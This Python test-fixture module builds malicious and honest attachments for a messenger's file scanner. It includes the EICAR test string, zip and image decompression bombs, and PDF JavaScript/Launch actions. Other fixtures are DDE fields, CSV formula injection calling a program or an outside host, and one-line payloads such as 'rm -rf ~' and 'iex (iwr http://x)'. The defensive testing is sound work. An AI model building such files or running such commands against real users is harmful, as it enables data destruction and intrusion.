"""Files that nobody should get without a word, each with what must become of it; and honest ones like them, which must
pass unmarked. Everything is made here, so that no scanner on a developer's machine minds the sources."""

import hashlib
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from email.message import EmailMessage

from PIL import Image

from messenger.domain.attachment import Mark, Refusal

OFFICE = "application/vnd.openxmlformats-officedocument."
WORD, SHEET = f"{OFFICE}wordprocessingml.document", f"{OFFICE}spreadsheetml.sheet"
SLIDES = f"{OFFICE}presentationml.presentation"
OPEN_TEXT = "application/vnd.oasis.opendocument.text"
MB = 1_000_000

TYPES = b'<Types><Override PartName="/word/document.xml" ContentType="%b"/></Types>'
DOCUMENT = b"<w:document><w:body><w:p><w:r><w:t>Guten Tag</w:t></w:r></w:p></w:body></w:document>"
RELATION = b'<Relationships><Relationship Id="r1" Type="http://x/relationships/%b" Target="%b" TargetMode="%b"/></Relationships>'  # noqa: E501
HYPERLINK = RELATION % (b"hyperlink", b"https://example.org", b"External")


@dataclass(frozen=True, slots=True, kw_only=True)
class BadFile:
    """`becomes`: the code of its refusal, or the marks with which it is delivered."""

    title: str
    name: str
    mime: str
    data: bytes
    becomes: Refusal | frozenset[Mark]


def eicar() -> bytes:
    """The industry's test virus, put together here: it does nothing, and every scanner knows it."""
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def zipped(members: Mapping[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=method)
    return out.getvalue()


def word(**more: bytes) -> bytes:
    """A Word document; in names of parts `__` stands for a slash and `_d_` for a dot."""
    parts = {name.replace("__", "/").replace("_d_", "."): data for name, data in more.items()}
    return zipped({"[Content_Types].xml": TYPES % b"document.main+xml", "word/document.xml": DOCUMENT} | parts)


def sheet(**more: bytes) -> bytes:
    parts = {name.replace("__", "/").replace("_d_", "."): data for name, data in more.items()}
    return zipped({"[Content_Types].xml": TYPES % b"sheet.main+xml", "xl/workbook.xml": b"<workbook/>"} | parts)


def slides(**more: bytes) -> bytes:
    parts = {name.replace("__", "/").replace("_d_", "."): data for name, data in more.items()}
    return zipped({"[Content_Types].xml": TYPES % b"presentation.main+xml", "ppt/presentation.xml": b"<p/>"} | parts)


def open_text(members: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), OPEN_TEXT)
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def pdf(*objects: bytes) -> bytes:
    body = b"".join(b"%d 0 obj\n%b\nendobj\n" % (n, each) for n, each in enumerate(objects, 1))
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + body + b"trailer<</Root 1 0 R>>\n%%EOF\n"


def stream(data: bytes, filters: bytes = b"/FlateDecode", kind: bytes = b"") -> bytes:
    return b"<<%b/Length %d/Filter %b>>\nstream\r\n%b\nendstream" % (kind, len(data), filters, data)


def objects(data: bytes, filters: bytes = b"/FlateDecode", *, packed: bool = True) -> bytes:
    return stream(zlib.compress(data) if packed else data, filters, b"/Type/ObjStm/N 1/First 4")


def png_header(width: int, height: int, *chunks: tuple[bytes, bytes]) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [(b"IHDR", header), *chunks, (b"IDAT", zlib.compress(b"\0" * 64)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(kind, data) for kind, data in parts)


def picture(kind: str, size: tuple[int, int] = (40, 30), **more: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "teal").save(out, kind, **more)  # type: ignore[arg-type]
    return out.getvalue()


def moving(kind: str, frames: int = 3) -> bytes:
    out = io.BytesIO()
    first, *others = (Image.new("RGB", (40, 30), (n * 7 % 255, n % 255, 9)) for n in range(frames))
    first.save(out, kind, save_all=True, append_images=others, duration=20)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _jpeg(width: int, height: int) -> bytes:
    head = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0"
    return head + b"\xff\xc0\0\x11\x08" + struct.pack(">HH", height, width) + b"\3" * 20


def _gif_of_many(frames: int) -> bytes:
    frame = b"\x2c" + bytes(8) + b"\0" + b"\2" + b"\2\x44\1" + b"\0"
    return b"GIF89a" + struct.pack("<HH", 10, 10) + b"\0\0\0" + frame * frames + b";"


def _heic(width: int, height: int) -> bytes:
    return b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0\0\0\x14ispe\0\0\0\0" + struct.pack(">II", width, height)


def _zeros(megabytes: int) -> bytes:
    """Packed, and made at once: every megabyte is packed to the same bytes."""
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    return (engine.compress(bytes(MB)) + engine.flush(zlib.Z_FULL_FLUSH)) * megabytes + b"\3\0"


def _noise(kilobytes: int) -> bytes:
    """What cannot be packed further, packed; the same in each run."""
    data = b"".join(hashlib.sha256(bytes([n, m])).digest() for n in range(kilobytes) for m in range(32))
    return zlib.compress(data)[2:-4]


def _zlib_zeros(megabytes: int) -> bytes:
    checksum = struct.pack(">HH", megabytes * MB % 65_521, 1)
    return b"\x78\xda" + _zeros(megabytes) + checksum


def raw_zip(*members: tuple[str, bytes, int], says: int | None = None, shared: bool = False, method: int = 8) -> bytes:
    """Of data that is packed already; `says` is the size that the headers claim. `shared`: entries of one name point to
    the first of them."""
    out, entries, places = b"", [], dict[str, int]()
    for name, packed, size in members:
        raw, claimed = name.encode(), size if says is None else says
        numbers = struct.pack("<HHHHHIIIHH", 20, 0, method, 0, 0, 0, len(packed), claimed, len(raw), 0)
        at = places.get(name, len(out)) if shared else len(out)
        if places.setdefault(name, at) == len(out):
            out += b"PK\x03\x04" + numbers + raw + packed
        central = b"PK\x01\x02" + struct.pack("<H", 20) + numbers[:-2] + struct.pack("<HHHHII", 0, 0, 0, 0, 0, at) + raw
        entries.append(central)
    directory = b"".join(entries)
    end = struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(directory), len(out), 0)
    return out + directory + b"PK\x05\x06" + end


def office_bomb(*members: tuple[str, bytes, int], says: int | None = None, shared: bool = False) -> bytes:
    types = TYPES % b"document.main+xml"
    packed = zlib.compress(types)[2:-4]
    return raw_zip(("[Content_Types].xml", packed, len(types)), ("word/document.xml", b"\3\0", 0), *members,
                   says=says, shared=shared)  # fmt: skip


def nested(levels: int, core: bytes) -> bytes:
    inner = zipped({"a.txt": core})
    for _ in range(levels):
        inner = zipped({"inner.zip": inner})
    return inner


def _mail() -> bytes:
    mail = EmailMessage()
    mail["Subject"] = "Invoice"
    mail.set_content("see attachment")
    mail.add_attachment(eicar(), maintype="application", subtype="octet-stream", filename="invoice.com")
    return mail.as_bytes()


def with_virus() -> Iterator[BadFile]:
    """What only a scanner can tell."""
    yield _bad("eicar as text", "note.txt", "text/plain", eicar(), "virus")
    yield _bad("eicar without a type", "note", "", eicar(), "virus")
    yield _bad("eicar in a document", "a.docx", WORD, word(word__media__a_d_txt=eicar()), "virus")
    yield _bad("eicar in a table in a document", "a.docx", WORD,
               word(word__embeddings__t_d_xlsx=sheet(xl__media__a_d_txt=eicar())), "virus")  # fmt: skip
    yield _bad("eicar in an open document", "a.odt", OPEN_TEXT,
               open_text({"content.xml": b"<x/>", "Pictures/a.txt": eicar()}), "virus")  # fmt: skip


def bad_files() -> Iterator[BadFile]:
    """What is refused or marked without any scanner."""
    yield from _not_allowed()
    yield from _two_things()
    yield from _bombs()
    yield from _office()
    yield from _pdfs()
    yield from _texts()


def _bad(title: str, name: str, mime: str, data: bytes, *becomes: str) -> BadFile:
    is_code = len(becomes) == 1 and becomes[0] in Refusal.__args__  # type: ignore[attr-defined]
    return BadFile(title=title, name=name, mime=mime, data=data, becomes=becomes[0] if is_code else frozenset(becomes))  # type: ignore[arg-type]


def _not_allowed() -> Iterator[BadFile]:
    yield _bad("eicar in an archive", "a.zip", "application/zip", zipped({"eicar.com": eicar()}), "type_not_allowed")
    yield _bad("eicar in archives", "a.zip", "application/zip", nested(3, eicar()), "type_not_allowed")
    yield _bad("eicar in a mail", "invoice.eml", "message/rfc822", _mail(), "type_not_allowed")
    yield _bad("eicar as a program", "eicar.com", "", eicar(), "type_not_allowed")
    yield _bad("a Windows program", "setup.exe", "", b"MZ\x90\0" + bytes(500), "type_not_allowed")
    yield _bad("a program as a picture", "a.png", "image/png", b"MZ\x90\0" + bytes(500), "type_not_allowed")
    yield _bad("a Linux program as a PDF", "a.pdf", "application/pdf", b"\x7fELF\2\1\1" + bytes(99), "type_not_allowed")
    yield _bad("a Mac program", "a.pdf", "", b"\xcf\xfa\xed\xfe" + bytes(99), "type_not_allowed")
    yield _bad("a script", "run.txt", "text/plain", b"#!/bin/sh\nrm -rf ~\n", "type_not_allowed")
    yield _bad("a batch file", "run.bat", "text/plain", b"@echo off\ndel *\n", "type_not_allowed")
    yield _bad("a script of PowerShell", "a.ps1", "text/plain", b"iex (iwr http://x)\n", "type_not_allowed")
    yield _bad("a shortcut", "a.lnk", "", b"L\0\0\0\1\x14\2\0" + bytes(99), "type_not_allowed")
    yield _bad("a name with two ends", "invoice.exe.pdf", "application/pdf", pdf(b"<<>>"), "type_not_allowed")
    yield _bad("a name written backwards", "a\u202efdp.exe", "application/pdf", pdf(b"<<>>"), "type_not_allowed")
    yield _bad("a page", "a.html", "text/html", b"<html><script>alert(1)</script></html>", "type_not_allowed")
    yield _bad("a page as text", "a.txt", "text/plain", b"\xef\xbb\xbf \n<!DOCTYPE html><script>", "type_not_allowed")
    yield _bad("a page in UTF-16", "a.txt", "text/plain", "\ufeff<script>x()</script>".encode("utf-16-le"),
               "type_not_allowed")  # fmt: skip
    yield _bad("a drawing with a script", "a.svg", "image/svg+xml", b"<svg onload='x()'/>", "type_not_allowed")
    yield _bad("a drawing as a picture", "a.png", "image/png", b"<?xml?><svg><script/></svg>", "type_not_allowed")
    yield _bad("an application of HTML", "a.hta", "", b"<script language=vbscript>", "type_not_allowed")
    yield _bad("WebAssembly", "a.pdf", "", b"\0asm\1\0\0\0", "type_not_allowed")
    yield _bad("a Java program", "a.jar", "", zipped({"META-INF/MANIFEST.MF": b"Main-Class: A"}), "type_not_allowed")
    yield _bad("a disk image", "a.iso", "", bytes(32_769) + b"CD001" + bytes(99), "type_not_allowed")
    yield _bad("an old Word document", "a.doc", "application/msword", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
               "type_not_allowed")  # fmt: skip


def _two_things() -> Iterator[BadFile]:
    archive = zipped({"evil.exe": b"MZ" + bytes(50)})
    yield _bad("a picture that is a PDF by its name", "a.pdf", "application/pdf", picture("PNG"), "mismatch")
    yield _bad("a PDF that is declared a picture", "a.png", "image/png", pdf(b"<<>>"), "mismatch")
    yield _bad("a PDF that is an archive", "a.pdf", "application/pdf", pdf(b"<<>>") + archive, "mismatch")
    yield _bad("a picture that is an archive", "a.jpg", "image/jpeg", picture("JPEG") + archive, "mismatch")
    yield _bad("a moving picture that is an archive", "a.gif", "image/gif", picture("GIF") + archive, "mismatch")
    yield _bad("a text that is an archive", "a.txt", "text/plain", b"hello\n" * 3 + archive, "type_not_allowed")
    yield _bad("a picture that is a PDF", "a.gif", "image/gif", picture("GIF") + pdf(b"<<>>"), "mismatch")
    yield _bad("a script as a picture", "a.gif", "image/gif", b"GIF89a/*" + b"\xff" * 9 + b"*/=1;alert(1)", "bomb")
    yield _bad("an archive before its document", "a.docx", WORD, _before(word(), b"PK\x03\x04junk"), "mismatch")
    yield _bad("a document of which two names differ", "a.docx", WORD, _renamed(word()), "mismatch")
    yield _bad("a document without its list", "a.docx", WORD, zipped({"word/document.xml": DOCUMENT}),
               "type_not_allowed")  # fmt: skip
    yield _bad("half a picture", "a.png", "image/png", picture("PNG")[:20], "mismatch")
    yield _bad("a picture with a wrong checksum", "a.png", "image/png", _spoiled(picture("PNG"), 18), "mismatch")
    yield _bad("nothing", "a.pdf", "application/pdf", b"", "empty")


def _before(archive: bytes, junk: bytes) -> bytes:
    return junk + archive


def _renamed(archive: bytes) -> bytes:
    at = archive.index(b"word/document.xml")
    return archive[:at] + b"word/dokument.xml" + archive[at + 17 :]


def _spoiled(data: bytes, at: int) -> bytes:
    return data[:at] + bytes([data[at] ^ 1]) + data[at + 1 :]


def _bombs() -> Iterator[BadFile]:
    zeros = _zeros(300)
    yield _bad("a document that unpacks to 300 MB", "a.docx", WORD,
               office_bomb(("word/media/a.txt", zeros, 300 * MB)), "bomb")  # fmt: skip
    yield _bad("a document that hides how much it is", "a.docx", WORD,
               office_bomb(("word/media/a.txt", _zeros(5), 100)), "bomb")  # fmt: skip
    yield _bad("a document of thousand times its size", "a.docx", WORD,
               office_bomb(("word/media/a.txt", _zeros(20), 20 * MB)), "bomb")  # fmt: skip
    yield _bad("members that share their bytes", "a.docx", WORD,
               office_bomb(*(("word/a.txt", _noise(9), 9 * 1024) for _ in range(50)), shared=True), "bomb")  # fmt: skip
    yield _bad("twenty thousand members", "a.docx", WORD,
               office_bomb(*((f"word/{n}.xml", b"\3\0", 0) for n in range(20_000))), "bomb")  # fmt: skip
    yield _bad("archives in archives", "a.docx", WORD, word(word__embeddings__a_d_zip=nested(6, b"x")), "bomb")
    yield _bad("an archive of zeros in a document", "a.docx", WORD,
               word(word__embeddings__a_d_zip=raw_zip(("a", zeros, 300 * MB))), "bomb")  # fmt: skip
    yield _bad("a picture of 10⁹ pixels", "a.png", "image/png", png_header(40_000, 25_000), "bomb")
    yield _bad("a picture of 65,000 by 65,000", "a.png", "image/png", png_header(65_000, 65_000), "bomb")
    yield _bad("a photo of 4·10⁹ pixels", "a.jpg", "image/jpeg", _jpeg(65_535, 65_535), "bomb")
    yield _bad("a photo of a phone, enormous", "a.heic", "image/heic", _heic(60_000, 60_000), "bomb")
    yield _bad("a WebP of 2.6·10⁸ pixels", "a.webp", "image/webp",
               b"RIFF\x24\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0" + b"\xff\x3f\0" * 2, "bomb")  # fmt: skip
    yield _bad("a scan whose second page is enormous", "a.tif", "image/tiff", _tiff((10, 10), (60_000, 60_000)), "bomb")
    yield _bad("a film of 20,000 pictures", "a.gif", "image/gif", _gif_of_many(20_000), "bomb")
    yield _bad("a picture with a text of 200 MB", "a.png", "image/png",
               png_header(9, 9, (b"zTXt", b"a\0\0" + _zlib_zeros(200))), "bomb")  # fmt: skip
    yield _bad("a PDF that is packed twice", "a.pdf", "application/pdf",
               pdf(stream(zlib.compress(_zlib_zeros(150), 9), b"[/FlateDecode/FlateDecode]")),
               "bomb")  # fmt: skip
    yield _bad("a PDF whose objects burst", "a.pdf", "application/pdf",
               pdf(objects(_zlib_zeros(300), packed=False)), "bomb")  # fmt: skip


def _tiff(*sizes: tuple[int, int]) -> bytes:
    out = b"II*\0\x08\0\0\0"
    for n, (width, height) in enumerate(sizes):
        tags = ((256, 4, width), (257, 4, height), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 8), (277, 3, 1),
                (278, 4, height), (279, 4, 1))  # fmt: skip
        entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
        size = 2 + len(entries) + 4
        after = len(out) + size if n + 1 < len(sizes) else 0
        out += struct.pack("<H", len(tags)) + entries + struct.pack("<I", after)
    return out


def _office() -> Iterator[BadFile]:
    yield _bad("macros of Word", "a.docx", WORD, word(word__vbaProject_d_bin=b"x"), "active")
    yield _bad("macros under another name", "a.docx", WORD,
               zipped({"[Content_Types].xml": TYPES % b"application/vnd.ms-office.vbaProject", "word/a.bin": b"x",
                       "word/document.xml": DOCUMENT}), "active")  # fmt: skip
    yield _bad("a macro document as another", "a.docx", WORD,
               zipped({"[Content_Types].xml": TYPES % b"application/vnd.ms-word.document.macroEnabled.main+xml",
                       "word/document.xml": DOCUMENT}), "active")  # fmt: skip
    yield _bad("a macro document by its name", "a.docm", WORD, word(), "type_not_allowed")
    yield _bad("macros of Excel 4", "a.xlsx", SHEET, sheet(xl__macrosheets__a_d_xml=b"<m/>"), "active")
    yield _bad("a list of parts in UTF-16", "a.docx", WORD,
               zipped({"[Content_Types].xml": (TYPES % b"vnd.ms-office.vbaProject").decode().encode("utf-16"),
                       "word/document.xml": DOCUMENT}), "active")  # fmt: skip
    yield _bad("macros of an open document", "a.odt", OPEN_TEXT,
               open_text({"content.xml": b"<x/>", "Basic/Standard/a.xml": b"Sub A"}), "active")  # fmt: skip
    yield _bad("a script of an open document", "a.odt", OPEN_TEXT,
               open_text({"content.xml": b"<x/>", "Scripts/python/a.py": b"x"}), "active")  # fmt: skip
    yield _bad("a button of an open document", "a.odt", OPEN_TEXT,
               open_text({"content.xml": b'<script:event-listener xlink:href="vnd.sun.star.script:x"/>'}),
               "script")  # fmt: skip
    yield _bad("a program in a document", "a.docx", WORD, word(word__embeddings__a_d_bin=b"MZ" + bytes(99)), "active")
    yield _bad("a program in a document by its name", "a.docx", WORD, word(word__embeddings__a_d_exe=b"x"), "active")
    yield _bad("an object in a document", "a.docx", WORD, word(word__embeddings__oleObject1_d_bin=b"\xd0\xcf"),
               "embedded")  # fmt: skip
    yield _bad("a page in a document", "a.docx", WORD, word(word__chunk_d_htm=b"<html>"), "embedded")
    yield _bad("a control in a document", "a.docx", WORD, word(word__activeX__activeX1_d_xml=b"<ax/>"), "script")
    yield _bad("a template from outside", "a.docx", WORD,
               word(word___rels__settings_d_xml_d_rels=RELATION % (b"attachedTemplate", b"http://x", b"External")),
               "remote")  # fmt: skip
    yield _bad("a template from outside, spelled in numbers", "a.docx", WORD,
               word(word___rels__settings_d_xml_d_rels=RELATION % (b"attachedTemplate", b"http://x", b"&#69;xternal")),
               "remote")  # fmt: skip
    yield _bad("a field that starts a program", "a.docx", WORD,
               word(word__document_d_xml=b"<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\cmd</w:instrText>"),
               "script")  # fmt: skip
    yield _bad("a link of Excel that starts a program", "a.xlsx", SHEET,
               sheet(xl__externalLinks__e_d_xml=b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
               "script")  # fmt: skip
    yield _bad("a slide that starts a program", "a.pptx", SLIDES,
               slides(ppt__slides__s_d_xml=b'<a:hlinkClick action="ppaction://program"/>'), "launch")  # fmt: skip
    yield _bad("macros in a table in a document", "a.docx", WORD,
               word(word__embeddings__t_d_xlsx=sheet(xl__vbaProject_d_bin=b"x")), "active")  # fmt: skip
    yield _bad("a locked open document", "a.odt", OPEN_TEXT,
               open_text({"META-INF/manifest.xml": b"<manifest:encryption-data/>", "content.xml": b"\1\2"}),
               "locked")  # fmt: skip


def _pdfs() -> Iterator[BadFile]:
    mime = "application/pdf"
    action = b"<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"
    yield _bad("a PDF with a script", "a.pdf", mime, pdf(action), "script")
    yield _bad("a PDF with a script, spelled in numbers", "a.pdf", mime, pdf(b"<</S/J#61v#61Script/JS(x)>>"), "script")
    yield _bad("a PDF with a script in packed objects", "a.pdf", mime, pdf(objects(b"1 0 " + action)), "script")
    yield _bad("a PDF whose packing is spelled in numbers", "a.pdf", mime,
               pdf(objects(action).replace(b"/ObjStm", b"/Obj#53tm")), "script")  # fmt: skip
    yield _bad("a PDF that starts a program", "a.pdf", mime, pdf(b"<</A<</S/Launch/F(cmd.exe)>>>>"), "launch")
    yield _bad("a PDF with a file inside", "a.pdf", mime, pdf(b"<</Type/EmbeddedFile>>"), "embedded")
    yield _bad("a PDF with a film inside", "a.pdf", mime, pdf(b"<</Subtype/RichMedia>>"), "embedded")
    yield _bad("a PDF with a form that runs", "a.pdf", mime, pdf(b"<</AcroForm<</XFA 5 0 R>>>>"), "script")
    yield _bad("a PDF that sends its form", "a.pdf", mime, pdf(b"<</S/SubmitForm/F(http://x)>>"), "remote")
    yield _bad("a PDF that fetches another", "a.pdf", mime, pdf(b"<</S/GoToR/F(\\\\\\\\x\\\\a)>>"), "remote")
    yield _bad("a locked PDF", "a.pdf", mime, pdf(b"<</Encrypt 5 0 R>>"), "locked")
    yield _bad("a PDF with objects packed in an odd way", "a.pdf", mime,
               pdf(objects(b"(x)", b"[/ASCII85Decode/FlateDecode]", packed=False)), "locked")  # fmt: skip
    yield _bad("a PDF with everything", "a.pdf", mime, pdf(action, b"<</S/Launch>>", b"<</Type/EmbeddedFile>>"),
               "script", "launch", "embedded")  # fmt: skip


def _texts() -> Iterator[BadFile]:
    yield _bad("a table that starts a program", "a.csv", "text/csv", b"a;b\n=cmd|'/c calc'!A0;2\n", "formula")
    yield _bad(
        "a table that tells others", "a.csv", "text/csv", b'name,x\n"=HYPERLINK(""http://x""&A1)",1\n', "formula"
    )
    yield _bad("a table that fetches", "a.csv", "text/csv", b'+WEBSERVICE("http://x"),1\n', "formula")
    yield _bad("RTF with an object", "a.rtf", "application/rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}",
               "embedded")  # fmt: skip
    yield _bad("RTF with a field that starts a program", "a.rtf", "application/rtf",
               b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd}}}", "script")  # fmt: skip
    yield _bad("RTF with a template from outside", "a.rtf", "application/rtf", b"{\\rtf1{\\*\\template http://x}}",
               "remote")  # fmt: skip


def honest_files() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
    """(name, type, how it is made): what customers send every day."""
    yield "photo.jpg", "image/jpeg", lambda: picture("JPEG", (1200, 900))
    yield "screen.png", "image/png", lambda: picture("PNG", (1280, 720))
    yield "small.gif", "image/gif", lambda: moving("GIF")
    yield "moving.png", "image/png", lambda: moving("PNG")
    yield "moving.webp", "image/webp", lambda: moving("WEBP")
    yield "still.webp", "image/webp", lambda: picture("WEBP")
    yield "scan.tif", "image/tiff", lambda: moving("TIFF")
    yield "phone.heic", "image/heic", lambda: _heic(4032, 3024)
    yield "letter.pdf", "application/pdf", lambda: pdf(b"<</OpenAction[3 0 R/Fit]/URI(https://example.org)>>")
    yield "objects.pdf", "application/pdf", lambda: pdf(objects(b"1 0 <</Type/Page>>"), stream(zlib.compress(b"BT ET")))
    yield "white.pdf", "application/pdf", lambda: pdf(stream(_zlib_zeros(9)))
    yield (
        "letter.docx",
        WORD,
        lambda: word(word___rels__document_d_xml_d_rels=HYPERLINK, word__media__i_d_png=picture("PNG")),
    )
    yield "table.xlsx", SHEET, lambda: sheet(xl__sheet1_d_xml=b"<c><v>1</v></c>" * 200_000)
    yield "slides.pptx", SLIDES, lambda: slides(ppt__slides__s1_d_xml=b"<p:sld/>")
    yield "letter.odt", OPEN_TEXT, lambda: open_text({"content.xml": b"<office:scripts/><text:p>x</text:p>"})
    yield "notes.txt", "text/plain", lambda: "Grüße, 您好\n- eins\n- zwei @anna\n= 3 €\n".encode()
    yield "list.csv", "text/csv", lambda: b"name;sum\n-5,00;+49 30 1234\n=SUM(A1:A2);2\n"
    yield "letter.rtf", "application/rtf", lambda: b"{\\rtf1\\ansi Guten Tag}"
